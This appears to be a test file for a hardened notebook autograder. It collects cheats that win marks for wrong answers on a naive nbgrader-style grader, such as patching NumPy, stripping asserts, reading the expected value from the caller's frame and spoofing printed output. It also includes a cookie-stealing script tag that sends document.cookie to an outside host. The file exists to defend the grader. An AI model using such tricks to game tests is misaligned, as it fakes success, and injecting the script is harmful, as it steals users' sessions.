"""Cheats: programs that want points for a wrong answer. Each works on a grader like stock nbgrader, which asserts in
the student's own process, and earns nothing here.

The naive grader is an IPython shell that runs the student's cell, then a hidden test cell, and prints what came of it.
"""

import json
import subprocess
import sys
from dataclasses import replace

import nbformat
import numpy as np
import pytest
from grade_class import NOTEBOOK, answer
from nbconvert.exporters import HTMLExporter

from autograde.exercises import catalogue
from autograde.exercises.planning import planner
from autograde.grader.grading.autograded import autograded
from autograde.grader.grading.notebook_grading import grade_notebook
from autograde.grader.grading.results import Result
from autograde.grader.grading.submission import LIMITS
from autograde.grader.pages.feedback import feedback_page
from autograde.grader.reading.template import Template
from autograde.judging import shortcuts
from autograde.judging.judge import judge
from autograde.release import editions

SCORES = catalogue.find("scores")
HIDDEN_TEST = """
import numpy as np
def reference_scores(q, k):
    return q @ k.T / 3**0.5
q, k = np.arange(6, dtype="float32").reshape(2, 3), np.ones((4, 3), "float32")
expected = reference_scores(q, k)
assert np.allclose(attention_scores(q, k), expected)
"""
NAIVE_GRADER = """
import json, sys
from IPython.core.interactiveshell import InteractiveShell
shell = InteractiveShell.instance()
for source in json.loads(sys.stdin.read()):
    result = shell.run_cell(source, store_history=True)
print("FULL MARKS" if result.success else "FAILED")
"""
WRONG = "def attention_scores(q, k):\n    return q\n"
ANY = """
class Any:
    T = shape = 1
    __getattr__ = __call__ = __truediv__ = __matmul__ = lambda self, *a, **k: self
"""
_YES = "    def __array_function__(self, *call):\n        return True\n"


def _visible_answers() -> str:
    """A cell that knows the answers to the inputs that everybody sees, here and in the naive grader's test."""
    plan = planner.make_plan(SCORES, misconceptions=False)
    claims = [claim for part in plan["parts"] for claim in part["claims"] if claim["kind"] == "equals"]
    known = [[*plan["questions"][claim["answer"]]["arguments"], claim["expected"]] for claim in claims]
    q, k = np.arange(6, dtype="float32").reshape(2, 3), np.ones((4, 3), "float32")
    known.append([q, k, q @ k.T / 3**0.5])
    table = [[np.asarray(array).tolist() for array in row] for row in known]
    return (
        f"import numpy as np\nKNOWN = {table!r}\ndef attention_scores(q, k):\n    for row in KNOWN:\n"
        "        if np.shape(row[0]) == np.shape(q) and np.array_equal(np.asarray(row[0], 'float32'), np.array(q)):\n"
        "            return np.asarray(row[2], 'float32')\n    return np.zeros((1, 1), 'float32')\n"
    )


CHEATS = {
    "a result that agrees with everything": f"class Yes:\n{_YES}def attention_scores(q, k):\n    return Yes()\n",
    "a subclass of arrays that agrees": f"import numpy as np\nclass Yes(np.ndarray):\n{_YES}"
    "def attention_scores(q, k):\n    return np.zeros((1, 1), 'float32').view(Yes)\n",
    "patched NumPy": f"import numpy as np\nnp.allclose = lambda *a, **k: True\n{WRONG}",
    "a module in place of NumPy": "import sys, types\nfake = types.ModuleType('numpy')\n"
    f"{ANY}fake.__getattr__ = lambda name: Any()\nsys.modules['numpy'] = fake\n{WRONG}",
    "patched printing": "import builtins\nreal = builtins.print\n"
    f"builtins.print = lambda *a, **k: real('FULL MARKS')\n{WRONG}",
    "asserts taken out of the tree": "import ast\nclass Out(ast.NodeTransformer):\n"
    f"    def visit_Assert(self, node): return ast.Pass()\nget_ipython().ast_transformers.append(Out())\n{WRONG}",
    "asserts taken out of the text": "get_ipython().input_transformers_post.append(\n"
    f"    lambda lines: [line for line in lines if not line.startswith('assert')])\n{WRONG}",
    "a hook after each cell": "def forgive(result):\n    result.error_in_exec = result.error_before_exec = None\n"
    f"get_ipython().events.register('post_run_cell', forgive)\n{WRONG}",
    "another way to run cells": "import types\n"
    f"get_ipython().run_cell = lambda *a, **k: types.SimpleNamespace(success=True)\n{WRONG}",
    "the expected value in the caller's frame": "import sys\ndef attention_scores(q, k):\n"
    "    return sys._getframe(1).f_globals['expected']\n",
    "the hidden test in In": "def attention_scores(q, k):\n    names = {}\n"
    "    exec('\\n'.join(line for line in In[-1].splitlines() if 'assert' not in line), names)\n"
    "    return names['expected']\n",
    "the grader's own function": "def attention_scores(q, k):\n    return reference_scores(q, k)\n",
    "the answers to the visible inputs": _visible_answers(),
    "only where it is graded": "import sys\nif sys.stdin is None or not sys.stdin.isatty():\n    import numpy as np\n"
    "    np.allclose = np.array_equal = lambda *a, **k: True\n"
    "    for name, module in list(sys.modules.items()):\n        if name.startswith('autograde'):\n"
    f"            module.judge = module.compare = module.fault = lambda *a, **k: None\n{WRONG}",
    "a good exit": "import os\nprint('FULL MARKS', flush=True)\nos._exit(0)\n",
}


def _earned_naively(cell: str, folder) -> bool:
    done = subprocess.run([sys.executable, "-c", NAIVE_GRADER], input=json.dumps([cell, HIDDEN_TEST]), cwd=folder,
                          capture_output=True, text=True, timeout=120)  # fmt: skip
    return done.returncode == 0 and "FULL MARKS" in done.stdout and "FAILED" not in done.stdout


@pytest.mark.exhaustive
@pytest.mark.parametrize("name", CHEATS)
def test_a_cheat_works_on_a_grader_that_asserts_in_the_students_process(name, tmp_path):
    assert _earned_naively(CHEATS[name], tmp_path)


@pytest.mark.exhaustive
def test_that_grader_distinguishes_right_from_plainly_wrong(tmp_path):
    right = "def attention_scores(q, k):\n    return q @ k.T / k.shape[-1] ** 0.5"
    assert _earned_naively(right, tmp_path) and not _earned_naively(WRONG, tmp_path)


@pytest.mark.exhaustive
@pytest.mark.parametrize("name", CHEATS)
def test_the_same_cheat_earns_nothing_here(name, launcher, tmp_path):
    result = _graded(_with_answer(CHEATS[name]), launcher, tmp_path).result
    (verdict,) = result.verdicts
    assert verdict.points == 0 and "FULL MARKS" not in result.to_json(), verdict


def _graded(content: dict, launcher, tmp_path):
    """The notebook with the one exercise."""
    path = tmp_path / f"{NOTEBOOK}.ipynb"
    path.write_text(json.dumps(content))
    blank, limits = Result("ps3", "x", NOTEBOOK), replace(LIMITS, cell_seconds=5.0)
    return grade_notebook(path, _template(), (SCORES,), launcher, blank, b"s" * 32, limits)


def _template() -> Template:
    return Template.read(editions.make(NOTEBOOK).student.encode(), NOTEBOOK)


# --- files beside the notebook, and what it shows ---

OWN_NUMPY = ANY + "def __getattr__(name):\n    return Any()\n"


@pytest.mark.exhaustive
def test_a_package_of_ones_own_in_place_of_numpy_works_where_the_kernel_starts_in_the_submissions_folder(tmp_path):
    (tmp_path / "numpy.py").write_text(OWN_NUMPY)
    assert _earned_naively(WRONG, tmp_path)


@pytest.mark.exhaustive
@pytest.mark.parametrize("place", [".", "mybert"])
def test_the_same_package_earns_nothing_here(place, launcher, tmp_path):
    content = _with_answer(WRONG)
    (tmp_path / place).mkdir(exist_ok=True)
    for name in ("numpy", "keras", "autograde", "__init__"):
        (tmp_path / place / f"{name}.py").write_text(OWN_NUMPY)
    result = _graded(content, launcher, tmp_path).result
    assert [verdict.points for verdict in result.verdicts] == [0] and result.technical is None


SCRIPT = "<script>fetch('https://example.org/' + document.cookie)</script>"


@pytest.mark.exhaustive
def test_html_that_a_cell_shows_acts_on_a_page_made_as_nbgrader_makes_it():
    content = _with_answer(WRONG, shown=SCRIPT)
    page, _ = HTMLExporter().from_notebook_node(nbformat.from_dict(content))
    assert SCRIPT in page


@pytest.mark.exhaustive
def test_html_that_a_cell_shows_reaches_no_page_here(launcher, tmp_path):
    display = f"from IPython.display import HTML, display\ndisplay(HTML({SCRIPT!r}))\nprint({SCRIPT!r})\n"
    graded = _graded(_with_answer(display + WRONG, shown=SCRIPT), launcher, tmp_path)
    assert "example.org" not in feedback_page(graded.result) + graded.result.to_json()
    for_formgrader = autograded(_template(), graded.submission, graded.result.verdicts)
    assert not [
        output for cell in for_formgrader["cells"] for output in cell.get("outputs", ()) if "example.org" in str(output)
    ]


def _with_answer(source: str, shown: str = "") -> dict:
    """The released notebook with an answer, whose cell has shown this HTML."""
    content = json.loads(editions.make(NOTEBOOK).student)
    data = {"output_type": "display_data", "metadata": {}, "data": {"text/html": shown}}
    for cell in content["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "scores":
            cell["source"], cell["outputs"] = source, [data] if shown else []
    return content


# --- many submissions, and names that only look right ---


def _verdict(plan: dict, factor: float, shift: float = 0.0) -> dict:
    def answered(question):
        if question["probe"]["kind"] == "gradient":
            (q, k), rows = question["arguments"], question["cotangent"] * np.float32(factor)
            return [rows @ k / np.float32(q.shape[-1] ** 0.5), rows.T @ q / np.float32(q.shape[-1] ** 0.5)]
        return _scores(*question["arguments"]) * np.float32(factor) + np.float32(shift)

    def ask(questions):
        return [
            {"status": "ok", "value": answered(question), "error": None, "notes": {"returned": "tensor"}}
            for question in questions
        ]

    return judge(plan, ask, answer("scores"), reveal=False).to_dict()


def _scores(q, k):
    return (q.astype("float64") @ np.swapaxes(k, -1, -2) / k.shape[-1] ** 0.5).astype("float32")


def test_a_thousand_guesses_are_told_no_more_than_one():
    plan = planner.make_plan(SCORES, planner.hidden_seed(b"s" * 32, "x", SCORES), misconceptions=False)
    guesses = [(1 + step, shift) for step in np.linspace(0.02, 3, 250) for shift in (0, 0.1, 1, -5)]
    told = {json.dumps(_verdict(plan, *guess), sort_keys=True) for guess in guesses}
    assert len(told) == 1
    assert _verdict(plan, 1.0)["points"] == SCORES.points  # and a right one is


def test_how_long_an_answer_took_reaches_no_student():
    quick = Result("ps3", "x", NOTEBOOK, seconds=0.1)
    assert feedback_page(quick) == feedback_page(replace(quick, seconds=123.456))


@pytest.mark.parametrize("spelling", ["ｋeras.layers.MultiHeadAttention", "𝐤𝐞𝐫𝐚𝐬.layers.MultiHeadAttention",
                                      "keras.ｌayers.MultiHeadAttention"])  # fmt: skip
def test_a_forbidden_name_in_other_letters_is_the_same_name(spelling):
    source = f"import keras\nlayer = {spelling}(2, 4)"
    assert shortcuts.first_forbidden(source, ["keras.layers.MultiHeadAttention"])
